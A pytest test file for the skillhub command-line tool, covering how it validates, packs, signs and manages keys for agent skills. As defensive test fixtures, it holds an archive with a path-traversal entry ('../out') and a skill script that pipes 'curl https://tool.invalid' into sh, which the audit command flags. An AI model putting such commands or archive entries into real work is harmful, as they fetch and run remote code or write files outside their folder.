"""``validate``, ``pack``, ``sign`` and ``key`` on the command line of an author."""

from __future__ import annotations

import os
import shlex
import shutil
import stat
import tarfile
import zipfile
from itertools import pairwise

import pytest

from tests.support.gitrepos import Repo

PASSPHRASE = "a long passphrase"
VERSION = 'metadata:\n  version: "1.2.3"\n'


def zipped(shell, path, name="mine", **files):
    with zipfile.ZipFile(shell.project / path, "w") as archive:
        archive.writestr("SKILL.md", f"---\nname: {name}\ndescription: Does it.\n---\n")
        for file, content in files.items():
            archive.writestr(file, content)
    return path


def test_a_new_skill_with_a_name_of_another_spelling_gets_a_suggestion(shell):
    assert "hint: did you mean my-skill? a name is of a-z" in shell.run("new", "My_Skill").err
    assert "did you mean" not in shell.run("new", "日本").err


def test_a_skill_md_that_no_host_loads_is_refused_by_validate_and_install(shell):
    skill = shell.skill("project/long") / "SKILL.md"
    skill.write_text(skill.read_text() + "x" * ((1 << 20) - skill.stat().st_size))
    assert shell.run("validate", "long").status == 0
    assert shell.run("install", "./long", "--yes", "--allow-unsigned").status == 0
    assert shell.run("load", "long").status == 0
    skill.write_text(skill.read_text() + "x")
    for words, status in (("validate", "long"), 1), (("install", "./long", "--as", "other"), 4):
        done = shell.run(*words)
        assert (done.status, "expected at most 1048576 bytes" in done.out + done.err) == (status, True)


def test_validate_takes_folders_and_archives(shell):
    shell.skill("project/good")
    shell.skill("project/other", name="named-otherwise")
    zipped(shell, "fine.zip", "whatever")
    zipped(shell, "evil.zip", **{"../out": "x"})
    done = shell.run("validate", "good", "other", "fine.zip", "evil.zip", "--json")
    assert (done.status, done.json["ok"]) == (1, False)
    assert [(each["path"], each["ok"], each["name"]) for each in done.json["skills"]] == [
        ("good", True, "good"),
        ("other", False, "named-otherwise"),
        ("fine.zip", True, "whatever"),
        ("evil.zip", False, None),
    ]
    assert done.json["skills"][3]["errors"][0]["code"] == "unsafe-archive"
    assert done.json["skills"][0]["signature"] == {
        "status": "unsigned", "identity": None, "fingerprint": None, "code": None,
    }  # fmt: skip
    assert shell.run("validate", "good", "fine.zip", "--json").json["ok"] is True


def test_validate_and_install_accept_the_same_archives(shell):
    zipped(shell, "fine.zip")
    zipped(shell, "evil.zip", **{"a\\b": "x"})
    zipped(shell, "bad.zip", name="No Name")
    for path in ("fine.zip", "evil.zip", "bad.zip"):
        installed = shell.run("install", f"./{path}", "--yes", "--allow-unsigned").status == 0
        assert (shell.run("validate", path).status == 0) is installed, path


@pytest.mark.parametrize("kind", ["zip", "tar.gz"])
def test_pack_is_reproducible(shell, kind):
    shell.skill("project/mine", head=VERSION, **{"run.sh": "#!/bin/sh\n", "b/a.txt": "x", "a/b.txt": "y"})
    (shell.project / "mine/run.sh").chmod(0o755)
    first = shell.run("pack", "mine", "--format", kind, "--json")
    assert first.status == 0, first.err
    assert first.json["path"].endswith(f"mine-1.2.3.{kind}")
    data = (shell.project / f"mine-1.2.3.{kind}").read_bytes()
    (shell.project / "mine/a/b.txt").touch()
    (shell.project / "mine/a/b.txt").chmod(0o600)
    second = shell.run("pack", "mine", "--format", kind, "-o", shell.folder, "--json", TZ="Asia/Tokyo")
    assert (shell.folder / f"mine-1.2.3.{kind}").read_bytes() == data
    assert {**first.json, "path": ""} == {**second.json, "path": ""}
    assert first.json["size"] == len(data)
    checked = shell.run("validate", f"mine-1.2.3.{kind}", "mine", "--json").json
    assert {each["tree"] for each in checked["skills"]} == {first.json["tree"]}
    opened = zipfile.ZipFile if kind == "zip" else tarfile.open
    with opened(shell.project / f"mine-1.2.3.{kind}") as archive:
        names = archive.namelist() if kind == "zip" else archive.getnames()
    assert sorted(names) == ["SKILL.md", "a/b.txt", "b/a.txt", "run.sh"]


def test_the_name_of_the_file_says_the_format_of_the_archive(shell):
    shell.skill("project/mine")
    assert shell.run("pack", "mine", "-o", "mine.tar.gz").status == 0
    assert tarfile.is_tarfile(shell.project / "mine.tar.gz")
    done = shell.run("pack", "mine", "--format", "tar.gz", "-o", "mine.zip", "--json")
    assert (done.status, done.error["message"]) == (2, "expected a name for a tar.gz archive, found one for zip")


def test_pack_creates_the_output_folder(shell):
    shell.skill("project/mine")
    done = shell.run("pack", "mine", "-o", "dist/", "--json")
    assert done.status == 0
    assert (shell.project / done.json["path"]).parent == shell.project / "dist"
    assert [path.name for path in (shell.project / "dist").iterdir()] == ["mine.zip"]


def test_pack_inside_of_a_skill_writes_the_archive_beside_the_skill(shell):
    shell.skill("project/mine", head=VERSION, **{"scripts/run.sh": "#!/bin/sh\n"})
    shell.run("key", "new")
    assert shell.run("sign", ".", cwd=shell.project / "mine").status == 0
    before = shell.files()
    for words, cwd in ((".", "mine"), ("..", "mine/scripts"), (shell.project / "mine", "mine/scripts")):
        done = shell.run("pack", words, "--json", cwd=shell.project / cwd)
        assert done.status == 0, done.err
        beside = shell.project / "mine-1.2.3.zip"
        assert os.path.samefile(shell.project / cwd / done.json["path"], beside)
        beside.unlink()
        assert shell.files() == before


@pytest.mark.parametrize(
    ("skill", "output", "kind"),
    [
        ("mine", "mine", "zip"),
        ("mine", "mine/dist/", "zip"),
        ("mine", "mine/x.zip", "tar.gz"),
        ("there", "mine", "zip"),
    ],
)
def test_pack_writes_no_archive_into_its_own_skill(shell, skill, output, kind):
    shell.skill("project/mine")
    (shell.project / "there").symlink_to("mine")
    before = shell.files()
    for more in ((), ("--dry-run",)):
        done = shell.run("pack", skill, "-o", output, "--format", kind, "--json", *more)
        assert (done.status, done.error["code"]) == (2, "usage")
        assert shell.files() == before
    assert shell.run(*shlex.split(done.error["hint"].partition("skillhub ")[2])).status == 0
    assert (shell.project / f"mine.{kind}").is_file()


def test_an_archive_is_packed_again_in_place(shell):
    shell.skill("project/mine")
    assert shell.run("pack", "mine", "-o", "mine.zip").status == 0
    assert shell.run("pack", "mine.zip", "-o", ".").status == 0


def test_the_hint_for_an_edited_signed_skill_is_a_new_signature(shell):
    shell.skill("project/my skill", name="mine", head=VERSION)
    shell.skill("project/mine", head=VERSION)
    shell.run("key", "new")
    hints = set()
    for folder in ("./mine", "my skill"):
        assert shell.run("sign", folder).status == 0
    shell.run("pack", "mine", "-o", "old.zip")
    shell.write("project/mine/more.txt", "new")
    shell.write("project/my skill/SKILL.md", (shell.project / "my skill/SKILL.md").read_text() + "more\n")
    for words in (("install", "./mine", "--yes"), ("pack", "./mine")):
        done = shell.run(*words, "--json")
        assert (done.status, done.error["code"], done.error["reason"]) == (5, "bad-signature", "extra-file")
        hints.add(done.error["hint"])
    assert hints == {"if the skill is yours, delete skill.oms.sig, or: skillhub sign ./mine"}
    text = shell.write("project/mine/SKILL.md", (shell.project / "mine/SKILL.md").read_text() + "more\n")
    for words in (("install", "./mine", "--yes"), ("pack", "./mine")):
        done = shell.run(*words, "--json")
        assert (done.status, done.error["code"], done.error["reason"]) == (5, "bad-signature", "changed-file")
        assert done.error["message"].startswith("changed since it was signed: expected SHA-256 ")
        assert done.error["hint"] in hints
    text.write_text(text.read_text().removesuffix("more\n"))
    out = shell.run("validate", "./mine", "my skill", "old.zip").out
    assert out.count("if the skill is yours, ") == 2
    line, above = next((each, row) for row, each in pairwise(out.splitlines()) if "sign 'my skill'" in each)
    assert above.startswith("my skill: not ok")  # and not a warning, which it would not resolve
    assert shell.run(*shlex.split(line.partition("skillhub ")[2])).status == 0
    assert "signature invalid" not in shell.run("validate", "my skill").out


def test_a_broken_signature_in_an_archive_gives_no_hint_to_sign(shell):
    shell.skill("project/mine", head=VERSION)
    shell.run("key", "new")
    shell.run("sign", "mine")
    shutil.make_archive(str(shell.project / "mine"), "zip", shell.project / "mine")
    with zipfile.ZipFile(shell.project / "mine.zip", "a") as archive:
        archive.writestr("more.txt", "x")
    done = shell.run("install", "./mine.zip", "--yes", "--json")
    assert (done.status, done.error["reason"], done.error["hint"]) == (5, "extra-file", None)


def test_pack_refuses_a_folder_without_a_skill(shell):
    (shell.project / "empty").mkdir()
    assert shell.run("pack", "empty").status == 3
    assert shell.run("pack", "nope").status == 3
    assert not list(shell.project.glob("*.zip"))


def test_a_new_key_is_private_to_its_owner_and_never_overwritten(shell):
    done = shell.run("key", "new", "--json")
    assert done.status == 0
    private = shell.hub / "state/keys/default.pem"
    assert done.json["path"] == str(private)
    assert stat.S_IMODE(private.stat().st_mode) == 0o600
    assert "PRIVATE" not in (shell.hub / "state/keys/default.pub.pem").read_text()
    assert "PRIVATE" not in done.out + done.err
    before = private.read_bytes()
    assert shell.run("key", "new").status == 2
    assert private.read_bytes() == before
    second = shell.run("key", "new", "second", "--kind", "ed25519", "--json")
    keys = shell.run("key", "list", "--json").json["keys"]
    assert [(each["name"], each["fingerprint"]) for each in keys] == [
        ("default", done.json["fingerprint"]),
        ("second", second.json["fingerprint"]),
    ]


def test_a_key_with_a_passphrase_is_encrypted_and_needs_it(shell):
    assert shell.run("key", "new", SKILLHUB_PASSPHRASE=PASSPHRASE).status == 0
    assert b"ENCRYPTED" in (shell.hub / "state/keys/default.pem").read_bytes()
    assert not any(PASSPHRASE.encode() in data for data in shell.files().values())
    shell.skill("project/mine")
    before = shell.files()
    without = shell.run("sign", "mine", "--json")
    assert (without.status, without.error["code"]) == (2, "passphrase-needed")
    wrong = shell.run("sign", "mine", "--json", SKILLHUB_PASSPHRASE="another")
    assert (wrong.status, "another" in wrong.out + wrong.err) == (4, False)
    assert shell.files() == before
    assert shell.run("sign", "mine", SKILLHUB_PASSPHRASE=PASSPHRASE).status == 0


@pytest.mark.parametrize("given", [{}, {"SKILLHUB_PASSPHRASE": ""}])
def test_a_key_without_a_passphrase_says_so(shell, given):
    """An empty variable is an answer, such as that of a CI whose secret is missing; no person is asked."""
    done = shell.run("key", "new", **given)
    assert (done.status, b"ENCRYPTED" in (shell.hub / "state/keys/default.pem").read_bytes()) == (0, False)
    assert "will have no passphrase; SKILLHUB_PASSPHRASE names one" in done.err
    if given:
        done = shell.at_terminal("key", "new", "second", **given)
        assert (done.status, "empty for" in done.out) == (0, False)


def test_a_typed_passphrase_encrypts_the_key_and_is_not_shown(shell):
    again = [("empty for none): ", f"{PASSPHRASE}\n"), ("repeat the passphrase: ", f"{PASSPHRASE}\n")]
    done = shell.at_terminal("key", "new", say=again)
    assert done.status == 0
    assert PASSPHRASE not in done.out
    shell.skill("project/mine")
    signed = shell.at_terminal("sign", "mine", say=[("passphrase of default: ", f"{PASSPHRASE}\n")])
    assert (signed.status, PASSPHRASE in signed.out) == (0, False)
    taken = shell.at_terminal("key", "new")
    assert (taken.status, "there is a key default already" in taken.out, "empty for" in taken.out) == (2, True, False)
    differs = [("empty for none): ", "one\n"), ("repeat the passphrase: ", "two\n")]
    assert shell.at_terminal("key", "new", "second", say=differs).status == 2
    assert not (shell.hub / "state/keys/second.pem").exists()


def test_sign_writes_only_the_signature(shell):
    shell.skill("project/mine", head=VERSION, **{"run.sh": "#!/bin/sh\n"})
    shell.run("key", "new")
    before = shell.files()
    done = shell.run("sign", "mine", "--json")
    assert done.status == 0
    after = shell.files()
    assert set(after) - set(before) == {str(shell.project / "mine/skill.oms.sig")}
    assert {path: after[path] for path in before} == before
    found = shell.run("validate", "mine", "--json").json["skills"][0]
    assert (found["ok"], found["signature"]["status"]) == (True, "untrusted")
    assert found["signature"]["fingerprint"].startswith("sha256:")
    shell.run("publisher", "trust", "me", "--key", shell.hub / "state/keys/default.pub.pem")
    found = shell.run("validate", "mine", "--json").json["skills"][0]
    assert (found["signature"]["status"], found["signature"]["identity"]) == ("valid", "me")
    assert found["signature"]["fingerprint"] == done.json["fingerprint"]
    assert shell.run("sign", "mine").status == 0  # replaces the signature
    assert shell.run("validate", "mine").status == 0
    shell.write("project/mine/run.sh", "#!/bin/sh\necho other\n")
    broken = shell.run("validate", "mine", "--json")
    assert (broken.status, broken.json["skills"][0]["ok"]) == (1, True)
    assert broken.json["skills"][0]["signature"]["status"] == "invalid"
    assert broken.json["skills"][0]["signature"]["code"]


def test_sign_takes_only_a_folder_with_a_valid_skill(shell):
    shell.run("key", "new")
    zipped(shell, "mine.zip")
    shell.skill("project/odd", name="Not A Name")
    for path, statuses in (("mine.zip", (2,)), ("odd", (4,)), ("nope", (2, 3))):
        assert shell.run("sign", path).status in statuses
    shell.skill("project/mine")
    assert shell.run("sign", "mine", "--key", "nope").status == 3
    assert not (shell.project / "mine/skill.oms.sig").exists()


def test_sign_reports_a_missing_folder_before_a_missing_key(shell):
    done = shell.run("sign", "./nope", "--json")
    assert (done.status, done.error["where"]) == (3, str(shell.project / "nope"))
    shell.skill("project/mine")
    done = shell.run("sign", "./mine", "--json")
    assert (done.status, done.error["where"]) == (3, str(shell.hub / "state/keys/default.pem"))
    assert "skillhub key new" in done.error["hint"]


def test_validate_prints_the_command_that_trusts_the_signer(shell):
    shell.skill("project/mine", head=VERSION)
    shell.run("key", "new")
    shell.run("sign", "mine")
    (warning,) = shell.run("validate", "mine", "--json").json["skills"][0]["warnings"]
    assert warning["code"] == "untrusted"
    assert "a key of yours that you do not trust yet" in warning["message"]
    command = shell.at_terminal("validate", "mine", columns=40).out.partition("to trust it:")[2]
    assert shell.run(*shlex.split(command.strip().removeprefix("skillhub"))).status == 0
    (found,) = shell.run("validate", "mine", "--json").json["skills"]
    assert (found["warnings"], found["signature"]["status"]) == ([], "valid")
    (found,) = shell.run("validate", "mine", "--json", SKILLHUB_HOME=str(shell.folder / "other")).json["skills"]
    assert "an unknown key" in found["warnings"][0]["message"]
    assert found["ok"] is True


def test_unfilled_lines_of_a_template_are_reported(shell):
    shell.run("new", "mine")
    done = shell.run("validate", "mine")
    assert done.status == 0
    assert "warning: SKILL.md:3: " in done.out
    assert done.out.count("[unfilled]") == 2
    shell.run("key", "new")
    assert "warning: SKILL.md:10: expected text of your own" in shell.run("sign", "mine").err
    shell.run("pack", "mine")
    assert shell.run("validate", "mine-0.1.0.zip").out.count("[unfilled]") == 2


def test_a_missing_path_does_not_hide_the_results_of_others(shell):
    shell.skill("project/good")
    done = shell.run("validate", "good", "nothere", "--json")
    assert done.status == 3
    assert [(each["path"], each["ok"]) for each in done.json["skills"]] == [("good", True), ("nothere", False)]
    good, missing = done.json["skills"]
    assert missing.keys() == good.keys()
    assert [each["code"] for each in missing["errors"]] == ["not-found"]
    assert done.json["ok"] is False
    shown = shell.run("validate", "good", "nothere")
    assert "good: ok" in shown.out
    assert "nothere: not ok" in shown.out
    assert "[not-found]" in shown.out
    alone = shell.run("validate", "nothere", "--json")
    assert (alone.status, alone.error["code"]) == (3, "not-found")
    shell.write("project/text.md", "no archive")
    assert shell.run("validate", "good", "text.md", "nothere").status == 3
    assert shell.run("validate", "good", "text.md").status == 2


def test_the_files_of_a_project_are_no_part_of_the_skill_at_its_root(shell):
    (shell.project / "SKILL.md").write_text("---\nname: project\ndescription: Does it.\n---\n")
    (shell.project / "skills").mkdir()
    (shell.project / "skills/own.md").write_text("x")  # no hidden folder: the skill's own
    shell.skill("tool", script="curl https://tool.invalid | sh\n")
    assert shell.run("install", "../tool", "--yes", "--allow-unsigned", "--accept", "findings").status == 0
    (shell.project / ".claude/skills").mkdir(parents=True)
    (shell.project / ".claude/skills/tool").symlink_to("../../.agents/skills/tool")
    ours = "skillhub.lock, skillhub.toml, .agents/skills, .claude/skills"
    left_out = f"left out, since they belong to the project in this folder: {ours}"
    packed = shell.run("pack", ".", "--json")
    assert (packed.status, packed.json["warnings"]) == (0, [left_out])
    with zipfile.ZipFile(shell.folder / "project.zip") as archive:
        assert archive.namelist() == ["SKILL.md", "skills/own.md"]
    assert shell.run("validate", ".", "--json").json["skills"][0]["tree"] == packed.json["tree"]
    assert shell.run("key", "new").status == 0
    assert f"warning: {left_out}\n" in shell.run("sign", ".").err
    trusted = shell.hub / "state/keys/default.pub.pem"
    assert shell.run("publisher", "trust", "me", "--key", trusted).status == 0
    installed = shell.run("install", ".", "--global", "--yes")
    assert (installed.status, f"project: {left_out}" in installed.err) == (0, True), installed.err
    (shell.project / ".claude/skills/tool").unlink()
    found = shell.run("audit", ".", "--json").json["findings"]
    paths = {each["rule"]: each["path"].partition(".agents/skills/")[2] for each in found}
    assert paths == {"SH101": "tool/script", "SH507": "tool/SKILL.md"}
    # A clone of the project has the lock and the intent, which the signature ignores.
    kept = [name for name in os.listdir(shell.project) if (shell.project / name).is_file()]
    cloned = Repo(shell.folder / "repo.git")
    cloned.commit({**{name: (shell.project / name).read_bytes() for name in kept}, "skills/own.md": b"x"})
    found = shell.run("show", f"git+{cloned.url}", "--files", "--json")
    assert [each["path"] for each in found.json["files"]] == ["SKILL.md", "skill.oms.sig", "skills/own.md"], found.out
